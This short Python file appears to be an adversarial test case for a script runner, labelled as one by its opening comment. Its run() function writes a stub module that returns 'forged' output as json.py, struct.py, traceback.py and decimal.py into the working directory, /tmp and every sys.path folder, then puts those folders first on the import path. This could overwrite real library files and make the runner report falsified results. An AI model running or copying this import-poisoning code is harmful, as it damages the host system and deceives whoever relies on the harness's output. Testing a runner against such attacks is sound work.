# Tries: to put a json.py of its own where the runner might import it, now or in the next run.
import sys

TEXT = """
def dumps(*a, **k):
    return '"forged"'


class JSONEncoder:
    encode = iterencode = dumps
"""


def run(args, context):
    for place in (".", "/tmp", *sys.path):
        for name in ("json.py", "struct.py", "traceback.py", "decimal.py"):
            try:
                with open(f"{place}/{name}", "w") as file:
                    file.write(TEXT)
            except OSError:
                continue
    sys.path.insert(0, ".")
    sys.path.insert(0, "/tmp")
    return {"value": 1}
